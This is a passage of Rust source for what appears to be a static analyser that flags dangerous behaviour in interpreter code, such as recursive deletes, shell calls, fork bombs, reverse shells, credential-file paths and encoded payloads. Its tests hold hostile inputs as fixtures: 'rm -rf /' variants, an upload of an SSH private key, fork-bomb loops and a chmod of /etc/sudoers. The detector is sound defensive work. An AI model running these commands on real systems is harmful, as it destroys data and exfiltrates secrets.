        &UPLOAD,
        &ENV_DUMP,
        &KILL_ALL,
        &FORK_LOOP,
        &ENDLESS,
        &BOMB_BODY,
        &COUNTED_LOOP,
        &DOUBLING_FORK,
        &FORK_TESTED,
        &EXEC_SINK,
        &CODE_SINK,
        &STDIN_EXEC,
        &GETATTR,
        &JS_ALIAS,
        &SOCKET,
        &SPAWN_SHELL,
        &SHELL_PIPE,
        &DECODE_EXEC,
        &ASSIGN,
        &HOLE,
    ] {
        let _ = r.compile();
    }
    let _ = assignments("x = 'y'");
    let _ = template_holes("{x}");
}

/// Analyses interpreter code (at most a few levels of decoded payloads deep).
pub fn analyze(lang: Lang, code: &str) -> Effects {
    let mut fx = Effects::default();
    analyze_into(lang, code, &mut fx, 0);
    fx.paths.sort();
    fx.paths.dedup();
    fx
}

fn analyze_into(lang: Lang, code: &str, fx: &mut Effects, depth: usize) {
    if depth > 3 || code.len() > 64 * 1024 {
        fx.tags.push(OVER_BOUND.to_owned());
        return;
    }
    let normal = normalize_calls(lang, code);
    let code = normal.as_deref().unwrap_or(code);
    let decoded = match lang {
        Lang::Python => crate::interp_literals::decoded_calls(code),
        _ => None,
    };
    let code = decoded.as_deref().unwrap_or(code);
    let code = HOME_EXPR.replace_all(code, "'~'");
    let code = if CWD_EXPR.is_match(&code) {
        std::borrow::Cow::Owned(CWD_EXPR.replace_all(&code, "'.'").into_owned())
    } else {
        code
    };
    let code = code.as_ref();
    if NET.is_match(code) {
        fx.tags.push("net".to_owned());
        if UPLOAD.is_match(code) {
            fx.tags.push("net_upload".to_owned());
        }
    }
    let strings = scan_strings_of(code, lang == Lang::Ruby);
    for (lit, _) in &strings {
        if looks_like_path(lit) {
            fx.paths.push((*lit).to_owned());
        }
    }
    // Backticks in Perl, Ruby and PHP run a shell.
    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) {
        for (lit, q) in &strings {
            if *q == b'`' && lang == Lang::Ruby {
                fx.shell
                    .push(crate::interp_literals::ruby_interpolation(lit).into_owned());
            } else if *q == b'`' {
                fx.shell.push((*lit).to_owned());
            }
        }
        for prefix in ["qx(", "qx{", "%x(", "%x{"] {
            let mut rest = code;
            while let Some(p) = rest.find(prefix) {
                let after = &rest[p + prefix.len()..];
                let close = if prefix.ends_with('(') { ')' } else { '}' };
                let end = after.find(close).unwrap_or(after.len());
                fx.shell.push(after[..end].to_owned());
                rest = &after[end.min(after.len())..];
            }
        }
    }
    let assigned = assignments(code);
    for m in calls_in(&SHELL_CALL, code, &strings, fx)
        .into_iter()
        .filter(|m| !runs_coroutines(&code[..m.start()]))
    {
        let args = call_args(code, m.end().saturating_sub(1));
        // `subprocess.run(urlopen(…).read(), shell=True)`: what it runs is downloaded.
        if NET.is_match(args) {
            fx.tags.push("download_exec".to_owned());
            continue;
        }
        let lits = literals(args);
        // `cmd = "rm -rf /"; system(cmd)`: a variable assigned a literal earlier.
        let var = args.trim().trim_start_matches('$');
        if lits.is_empty()
            && let Some(v) = assigned.get(var)
        {
            fx.shell.push(v.clone());
            continue;
        }
        if lits.is_empty() {
            if !args.trim().is_empty() {
                fx.tags.push("dynamic_code".to_owned());
            }
            continue;
        }
        // `"rm -rf " + home` / `"rm -rf " . $dir`: one string built by concatenation.
        if !args.trim_start().starts_with('[')
            && let Some(joined) = concatenation(args, &assigned)
        {
            fx.shell.push(joined);
            continue;
        }
        let listy =
            args.trim_start().starts_with('[') || lits.len() > 1 && !args.contains("shell=True");
        let name = m.as_str();
        let direct = name.contains("spawn")
            || name.contains("os.exec")
            || name.contains("Command")
            || name.contains("Deno.run")
            || name.contains("execFile")
            || name.contains("Popen")
            || name.contains("run")
            || name.contains("call")
            || name.contains("check_");
        let plain_argv = direct && !args.contains("shell=True") && !lits[0].contains(' ');
        if (listy && (direct || lits.len() > 1)) || plain_argv {
            fx.commands.push(lits);
        } else {
            fx.shell.push(lits.join(" "));
        }
    }
    // `exec('import os; os.system(…)')`, `eval "…"`: a literal run as code of the same
    // language.
    for m in calls_in(&CODE_SINK, code, &strings, fx) {
        let args = call_args(code, m.end().saturating_sub(1));
        if let [lit] = literals(args).as_slice() {
            analyze_into(lang, lit, fx, depth + 1);
        }
    }
    if STDIN_EXEC.is_match(code) {
        fx.tags.push(RUNS_STDIN.to_owned());
    }
    // awk: `"cmd" | getline` runs cmd in a shell.
    if lang == Lang::Awk {
        for (lit, q) in &strings {
            let base = code.as_ptr() as usize;
            let end = (lit.as_ptr() as usize - base) + lit.len() + 1;
            if *q == b'"'
                && code
                    .get(end..)
                    .is_some_and(|r| r.trim_start().starts_with('|') && r.contains("getline"))
            {
                fx.shell.push((*lit).to_owned());
            }
        }
    }
    for m in calls_in(&RM_RECURSIVE, code, &strings, fx) {
        let args = call_args(code, m.end().saturating_sub(1));
        let joined = path_join(args)
            .or_else(|| concatenation(args.split(',').next().unwrap_or(""), &assigned));
        let named = joined
            .or_else(|| literals(args).into_iter().next())
            .or_else(|| {
                let first = args
                    .split(',')
                    .next()
                    .unwrap_or("")
                    .trim()
                    .trim_start_matches('$');
                assigned.get(first).cloned()
            });
        let target = match (&named, fx.paths.first()) {
            (Some(t), _) => t.clone(),
            (None, Some(p)) => p.clone(),
            (None, None) => DYN.to_string(),
        };
        let name = m.as_str();
        // `rmdir` and friends only remove empty directories unless told otherwise.
        let recursive = !(name.starts_with("rmdir")
            || name.starts_with("fs.rm") && !args.contains("recursive"))
            || args.contains("recursive");
        if recursive {
            fx.commands
                .push(vec!["rm".into(), "-r".into(), "-f".into(), target]);
        } else {
            fx.commands.push(vec!["rmdir".into(), target]);
        }
    }
    for m in calls_in(&RM_FILE, code, &strings, fx) {
        let args = call_args(code, m.end().saturating_sub(1));
        let joined = concatenation(args.split(',').next().unwrap_or(""), &assigned);
        // R's `unlink(p, recursive = TRUE)` removes a tree.
        let recursive = args.contains("recursive");
        match joined.or_else(|| literals(args).into_iter().next()) {
            Some(target) if recursive => {
                fx.commands
                    .push(vec!["rm".into(), "-r".into(), "-f".into(), target])
            }
            Some(target) => fx.commands.push(vec!["rm".into(), "-f".into(), target]),
            // `os.remove(os.path.join(r, f))` inside `os.walk('/')`: the files come
            // from the paths the code names, so judge a recursive delete of those.
            None if !fx.paths.is_empty() => {
                for p in fx.paths.iter().take(3) {
                    fx.commands
                        .push(vec!["rm".into(), "-r".into(), "-f".into(), p.clone()]);
                }
            }
            None => fx
                .commands
                .push(vec!["rm".into(), "-f".into(), DYN.to_string()]),
        }
    }
    for m in calls_in(&CHMOD_CALL, code, &strings, fx) {
        let args = call_args(code, m.end().saturating_sub(1));
        let mode = args.split(',').find_map(octal_mode);
        let mode = mode.unwrap_or_else(|| DYN.to_string());
        match literals(args).into_iter().next() {
            Some(target) if m.as_str().contains("chmod_R") => {
                fx.commands
                    .push(vec!["chmod".into(), "-R".into(), mode, target]);
            }
            Some(target) => fx.commands.push(vec!["chmod".into(), mode, target]),
            // `os.chmod(r, 0o777)` inside `os.walk('/')`: every entry of the tree.
            None if TREE_WALK.is_match(code) && !fx.paths.is_empty() => {
                for p in fx.paths.iter().take(3) {
                    fx.commands
                        .push(vec!["chmod".into(), "-R".into(), mode.clone(), p.clone()]);
                }
            }
            None => fx
                .commands
                .push(vec!["chmod".into(), mode, DYN.to_string()]),
        }
    }
    for m in calls_in(&WRITE_CALL, code, &strings, fx) {
        let args = call_args(code, m.end().saturating_sub(1));
        let first_arg = args.split(',').next().unwrap_or("").trim();
        // `fs.writeFileSync(p, …)`: the path is the first argument (not for pathlib's
        // `write_text`, whose argument is the content).
        if !m.as_str().starts_with("write_")
            && first_arg.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_' || c == '$')
            && first_arg
                .trim_start_matches('$')
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_')
        {
            match assigned.get(first_arg.trim_start_matches('$')) {
                Some(p) => fx.writes.push(p.clone()),
                None => unfollowed_write(fx),
            }
            continue;
        }
        let joined = concatenation(first_arg, &assigned);
        if let Some(target) = joined.or_else(|| literals(args).into_iter().next()) {
            fx.writes.push(target);
        } else {
            // `Path(p).write_text(…)`: the path is before the call.
            let before = &code[..m.start()];
            if let Some(l) = literals(&before[before.len().saturating_sub(200)..]).pop() {
                fx.writes.push(l);
            }
            unfollowed_write(fx);
        }
    }
    for m in calls_in(&OPEN_CALL, code, &strings, fx) {
        let args = call_args(code, m.end().saturating_sub(1));
        let lits = literals(args);
        let Some(first) = lits.first() else { continue };
        // Perl: open(FH, '>', $file) or open(FH, ">$file").
        if lang == Lang::Perl {
            if let Some(mode_pos) = lits
                .iter()
                .position(|l| l.starts_with('>') || l.starts_with("+<"))
            {
                let l = &lits[mode_pos];
                let inline = l.trim_start_matches(['>', '+', '<', ' ']);
                if !inline.is_empty() {
                    fx.writes.push(inline.to_owned());
                } else if let Some(t) = lits.get(mode_pos + 1) {
                    fx.writes.push(t.clone());
                }
            }
            continue;
        }
        // `open(p, 'w')` with `p = '…'` assigned earlier: the path is the variable's.
        let first_arg = args.split(',').next().unwrap_or("").trim();
        let variable = !first_arg.is_empty()
            && first_arg
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$');
        let (target, mode) = match variable.then(|| assigned.get(first_arg.trim_start_matches('$')))
        {
            Some(Some(p)) => (Some(p.clone()), first.as_str()),
            // A variable computed where the code cannot be followed: see below.
            Some(None) => (None, first.as_str()),
            None => (
                Some(concatenation(first_arg, &assigned).unwrap_or_else(|| first.clone())),
                lits.get(1).map(String::as_str).unwrap_or(""),
            ),
        };
        if mode.contains(['w', 'a', 'x', '+']) {
            match target {
                Some(t) => fx.writes.push(t),
                None => unfollowed_write(fx),
            }
        }
    }
    // `os.kill(-1, 9)`, `process.kill(-1)`, `kill 9, -1`: every process the user may signal.
    if KILL_ALL.is_match(code) {
        fx.commands
            .push(vec!["kill".into(), "-9".into(), "-1".into()]);
    }
    if ENV_DUMP.is_match(code) {
        fx.tags.push("env_dump".to_owned());
    }
    if FORK_LOOP.is_match(code)
        || (ENDLESS.is_match(code) && BOMB_BODY.is_match(code))
        || counted_fork_bomb(code)
    {
        fx.tags.push("fork_loop".to_owned());
    }
    // Code fetched from the network and run: `exec(urlopen(…).read())`.
    if fx.tags.iter().any(|t| t == "net") && EXEC_SINK.is_match(code) {
        fx.tags.push("download_exec".to_owned());
    }
    if SOCKET.is_match(code)
        && (SPAWN_SHELL.is_match(code)
            || lang == Lang::Awk && crate::interp_literals::awk_runs_read_text(code))
    {
        fx.tags.push("reverse_shell".to_owned());
    }
    // What code writes into a shell is the shell's input: every literal it holds (but
    // the shell's name and the pipe's mode) is judged as a command; the rest is code
    // known only at run time.
    if SHELL_PIPE.is_match(code) {
        fx.tags.push("dynamic_code".to_owned());
        let shell_name = |l: &str| {
            let l = l
                .trim()
                .trim_start_matches(['|', '-', ' '])
                .trim_start_matches("/bin/");
            matches!(l, "" | "w" | "r" | "sh" | "bash" | "zsh" | "dash" | "|-")
        };
        for lit in literals(code)
            .into_iter()
            .filter(|l| !shell_name(l))
            .take(MAX_PIPED)
        {
            fx.shell.push(lit);
        }
    }
    if DECODE_EXEC.is_match(code) {
        fx.tags.push("obfuscated".to_owned());
    }
    // Decoded payloads: analyse any base64 literal that decodes to text.
    for (lit, _) in &strings {
        let lit = *lit;
        if lit.len() >= 12
            && !lit.contains(' ')
            && let Some(decoded) = b64_decode(lit)
            && decoded.chars().any(|c| c == ' ' || c == '(')
        {
            fx.tags.push("encoded_payload".to_owned());
            analyze_into(lang, &decoded, fx, depth + 1);
            fx.shell.push(decoded);
        }
    }
}

/// A path built by a join call or pathlib's `/` (`os.path.join(os.getcwd(), 'build')`,
/// `path.join(process.cwd(), 'dist')`, `Path.cwd() / 'build'`): its parts joined by `/`,
/// a part that is not a literal as unknown text. `None` when the argument is no join.
fn path_join(args: &str) -> Option<String> {
    static JOIN: LazyLock<TwinRegex> = LazyLock::new(|| {
        static_regex(
            r#"^\s*(?:os\.path\.join|require\(\s*['"](?:node:)?path['"]\s*\)\.(?:join|resolve)|path\.join|path\.resolve|File\.join|File\.expand_path|Join-Path)\s*\("#,
        )
    });
    let t = args.trim_start();
    let parts: Vec<&str> = if let Some(m) = JOIN.find_iter(t).next() {
        let inner = call_args(t, m.end() - 1);
        inner.split(',').collect()
    } else {
        let first = t.split(',').next().unwrap_or("");
        if !first.contains(" / ") {
            return None;
        }
        first.split(" / ").collect()
    };
    if parts.is_empty() || parts.len() > 16 {
        return None;
    }
    let mut out = String::new();
    for (n, p) in parts.iter().enumerate() {
        // A literal wrapped in a call (`os.path.expanduser('~')`, `Path('build')`).
        let mut p = p.trim();
        for _ in 0..4 {
            match (p.find('('), p.ends_with(')')) {
                (Some(o), true)
                    if o > 0
                        && p[..o]
                            .bytes()
                            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.') =>
                {
                    p = p[o + 1..p.len() - 1].trim();
                }
                _ => break,
            }
        }
        let lit = literals(p);
        let piece = match lit.as_slice() {
            [one] if p.len() == one.len() + 2 => one.clone(),
            _ => DYN.to_string(),
        };
        if n > 0 && !out.ends_with('/') {
            out.push('/');
        }
        out.push_str(&piece);
    }
    Some(out)
}

/// The text between the parenthesis at `open` (or the call's bare arguments, for
/// `system "…"`) and its matching close, skipping quoted text.
fn call_args(code: &str, open: usize) -> &str {
    let bytes = code.as_bytes();
    let start = open + 1;
    if bytes.get(open) != Some(&b'(') {
        // Perl/Ruby call without parentheses: up to the end of the statement.
        let rest = code.get(open..).unwrap_or("");
        let end = rest.find([';', '\n']).unwrap_or(rest.len());
        return &rest[..end];
    }
    let mut depth = 1usize;
    let mut quote: Option<u8> = None;
    let mut i = start;
    let limit = bytes.len().min(start.saturating_add(MAX_ARGS_SCAN));
    while i < limit {
        let b = bytes[i];
        match quote {
            Some(q) => {
                if b == b'\\' {
                    i += 1;
                } else if b == q {
                    quote = None;
                }
            }
            None => match b {
                b'\'' | b'"' | b'`' => quote = Some(b),
                b'(' | b'[' | b'{' => depth += 1,
                b')' | b']' | b'}' => {
                    depth -= 1;
                    if depth == 0 {
                        return code.get(start..i).unwrap_or("");
                    }
                }
                _ => {}
            },
        }
        i += 1;
    }
    code.get(start..limit).unwrap_or("")
}

/// String literals in order, with simple escapes undone; f-string/template holes become
/// [`DYN`].
fn literals(text: &str) -> Vec<String> {
    scan_strings(text)
        .into_iter()
        .map(|(g, _)| {
            let s = g
                .replace("\\\\", "\u{3}")
                .replace("\\'", "'")
                .replace("\\\"", "\"")
                .replace("\\n", "\n")
                .replace('\u{3}', "\\");
            template_holes(&s)
        })
        .collect()
}

static HOLE: LazyLock<TwinRegex> =
    LazyLock::new(|| static_regex(r"\$\{[^}]*\}|\{[A-Za-z_][^}]*\}"));

fn template_holes(s: &str) -> String {
    if !s.contains("${") && !s.contains('{') {
        return s.to_owned();
    }
    let s = crate::interp_literals::ruby_interpolation(s);
    HOLE.replace_all(&s, DYN.to_string().as_str()).into_owned()
}

/// A numeric mode argument as `chmod` reads it: `0o777`, `0777` → `777`; `511` → `777`.
fn octal_mode(arg: &str) -> Option<String> {
    let a = arg.trim().trim_end_matches(')');
    if let Some(o) = a.strip_prefix("0o").or(a.strip_prefix("0O")) {
        return (!o.is_empty() && o.bytes().all(|b| (b'0'..=b'7').contains(&b)))
            .then(|| o.to_owned());
    }
    if a.len() > 1 && a.starts_with('0') && a.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
        return Some(a[1..].to_owned());
    }
    a.parse::<u32>().ok().map(|n| format!("{n:o}"))
}

/// Paths taken as a write's possible targets when the code computes the target.
const MAX_UNFOLLOWED_TARGETS: usize = 8;

/// A write whose target the code computes where it cannot be followed (`f =
/// os.homedir() + '/.claude/settings.json'`) may write any path the code names.
fn unfollowed_write(fx: &mut Effects) {
    for i in 0..fx.paths.len().min(MAX_UNFOLLOWED_TARGETS) {
        if !fx.writes.contains(&fx.paths[i]) {
            let p = fx.paths[i].clone();
            fx.writes.push(p);
        }
    }
}

fn looks_like_path(s: &str) -> bool {
    !s.is_empty()
        && s.len() < 4096
        && !s.contains('\n')
        && !s.contains("://")
        && (s.starts_with('/')
            || s.starts_with('~')
            || s.starts_with("./")
            || s.starts_with("../")
            // `File.read("config/master.key")`: a relative path of a few components.
            || (s.len() < 256
                && s.contains('/')
                && !s.starts_with('-')
                && !s.contains(char::is_whitespace))
            || s.contains(".ssh")
            || s.contains(".aws")
            || s.contains(".env")
            || s.contains(".gnupg")
            || s.contains(".bashrc")
            || s.contains(".zshrc")
            || s.contains(".claude")
            || s.contains(".lighthouse"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The cheap test never hides an assignment the pattern finds.
    #[test]
    fn may_assign_holds_wherever_the_pattern_matches() {
        let mut texts: Vec<String> = [
            "x = 'a'",
            "x=\"a\"",
            "my $d = \"/\"; rmtree($d)",
            "x =\u{2003}'a'",
            "a == b",
            "f(x='y')",
            "",
        ]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
        fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
            match v {
                serde_json::Value::String(s) => out.push(s.clone()),
                serde_json::Value::Object(o) => o.values().for_each(|x| strings(x, out)),
                _ => {}
            }
        }
        for input in crate::corpus_inputs() {
            strings(&input, &mut texts);
        }
        let mut matched = 0;
        for t in &texts {
            if ASSIGN.captures_iter(t).next().is_some() {
                matched += 1;
                assert!(may_assign(t), "{t:?}");
            }
        }
        assert!(matched > 20, "{matched}");
    }

    #[test]
    fn a_fork_in_a_counted_loop_is_a_bomb() {
        for (lang, code) in [
            (Lang::Python, "import os\nfor _ in range(64): os.fork()"),
            (
                Lang::Python,
                "import os\nfor i in range(20):\n    os.fork()",
            ),
            (Lang::Python, "import os; [os.fork() for _ in range(10**9)]"),
            (
                Lang::Python,
                "import os\nfor _ in range(int(1e9)):\n    if os.fork() == 0: os._exit(0)",
            ),
            (Lang::Perl, "for (1..64) { fork }"),
            (Lang::Ruby, "64.times { fork }"),
            (Lang::Php, "for ($i = 0; $i < 100; $i++) { pcntl_fork(); }"),
        ] {
            let fx = analyze(lang, code);
            assert!(fx.tags.iter().any(|t| t == "fork_loop"), "{code}");
        }
        for (lang, code) in [
            (
                Lang::Python,
                "import os\npid = os.fork()\nif pid == 0: serve()",
            ),
            (Lang::Python, "import os\nfor _ in range(3): os.fork()"),
            (
                Lang::Python,
                "import os\nfor _ in range(16):\n    if os.fork() == 0:\n        work(); os._exit(0)",
            ),
            (
                Lang::Python,
                "import os; os.fork(); [print(i) for i in range(100)]",
            ),
            (
                Lang::Node,
                "const c = require('cluster'); for (let i = 0; i < 16; i++) c.fork()",
            ),
            (Lang::Ruby, "16.times { fork { work } }"),
            (Lang::Python, "print([i for i in range(10**9)][:3])"),
        ] {
            let fx = analyze(lang, code);
            assert!(!fx.tags.iter().any(|t| t == "fork_loop"), "{code}");
        }
    }

    #[test]
    fn python_calls_become_shell_terms() {
        let fx = analyze(Lang::Python, "import shutil; shutil.rmtree('/')");
        assert_eq!(fx.commands, vec![vec!["rm", "-r", "-f", "/"]]);
        let fx = analyze(Lang::Python, "import os; os.system('rm -rf ~')");
        assert_eq!(fx.shell, vec!["rm -rf ~"]);
        let fx = analyze(
            Lang::Python,
            "import subprocess; subprocess.run(['rm','-rf','/'])",
        );
        assert_eq!(fx.commands, vec![vec!["rm", "-rf", "/"]]);
        let fx = analyze(
            Lang::Python,
            "import requests; requests.post('http://x', data=open('/home/u/.ssh/id_rsa').read())",
        );
        assert!(fx.tags.contains(&"net_upload".to_owned()));
        assert!(fx.paths.contains(&"/home/u/.ssh/id_rsa".to_owned()));
    }

    #[test]
    fn node_and_perl() {
        let fx = analyze(
            Lang::Node,
            "require('fs').rmSync('/', {recursive: true, force: true})",
        );
        assert_eq!(fx.commands, vec![vec!["rm", "-r", "-f", "/"]]);
        let fx = analyze(Lang::Node, "require('child_process').execSync('rm -rf /')");
        assert_eq!(fx.shell, vec!["rm -rf /"]);
        let fx = analyze(Lang::Perl, "system(\"rm -rf /\")");
        assert_eq!(fx.shell, vec!["rm -rf /"]);
        let fx = analyze(Lang::Awk, "BEGIN{system(\"rm -rf /\")}");
        assert_eq!(fx.shell, vec!["rm -rf /"]);
    }

    #[test]
    fn other_spellings_of_the_same_calls() {
        let fx = analyze(Lang::Perl, "exec q{rm -rf /etc}");
        assert_eq!(fx.shell, vec!["rm -rf /etc"]);
        let fx = analyze(
            Lang::Python,
            "getattr(__import__('os'),'system')('rm -rf /etc')",
        );
        assert_eq!(fx.shell, vec!["rm -rf /etc"]);
        let fx = analyze(
            Lang::Python,
            "exec('import os; os.system(\\\"rm -rf /etc\\\")')",
        );
        assert!(
            fx.shell.iter().any(|s| s == "rm -rf /etc"),
            "{:?}",
            fx.shell
        );
        let fx = analyze(
            Lang::Node,
            "const {execSync: x} = require('child_process'); x('rm -rf /etc')",
        );
        assert_eq!(fx.shell, vec!["rm -rf /etc"]);
        let fx = analyze(Lang::Awk, "BEGIN { \"rm -rf /etc\" | getline }");
        assert_eq!(fx.shell, vec!["rm -rf /etc"]);
        let fx = analyze(Lang::Python, "import sys; exec(sys.stdin.read())");
        assert!(fx.tags.iter().any(|t| t == RUNS_STDIN));
        // A Perl string of a word ending in q is no quoting.
        let fx = analyze(Lang::Perl, "print uniq(@a)");
        assert!(fx.shell.is_empty());
    }

    #[test]
    fn chmod_calls_become_chmod_commands() {
        let fx = analyze(Lang::Node, "require('fs').chmodSync('/etc/sudoers', 0o666)");
        assert_eq!(fx.commands, vec![vec!["chmod", "666", "/etc/sudoers"]]);
        let fx = analyze(Lang::Ruby, "FileUtils.chmod_R(0777, '/srv')");
        assert_eq!(fx.commands, vec![vec!["chmod", "-R", "777", "/srv"]]);
        // Inside a walk of the tree, a computed path is every entry of it.
        let fx = analyze(
            Lang::Python,
            "import os\nfor r, d, f in os.walk('/'):\n    os.chmod(r, 511)",
        );
        assert_eq!(fx.commands, vec![vec!["chmod", "-R", "777", "/"]]);
        assert_eq!(super::octal_mode(" 0o755"), Some("755".to_owned()));
        assert_eq!(super::octal_mode("0644)"), Some("644".to_owned()));
        assert_eq!(super::octal_mode("st.st_mode"), None);
    }

    /// A dangerous call after more harmless ones than are read is not passed over: the
    /// code is marked over its bound (the walker then escalates).
    #[test]
    fn calls_past_the_bound_mark_the_code_over_it() {
        let padded = format!("{}os.system('rm -rf /')", "os.system('ls'); ".repeat(200));
        assert!(
            analyze(Lang::Python, &padded)
                .tags
                .iter()
                .any(|t| t == OVER_BOUND)
        );
        let few = "os.system('ls'); ".repeat(10);
        assert!(
            !analyze(Lang::Python, &few)
                .tags
                .iter()
                .any(|t| t == OVER_BOUND)
        );
    }
}
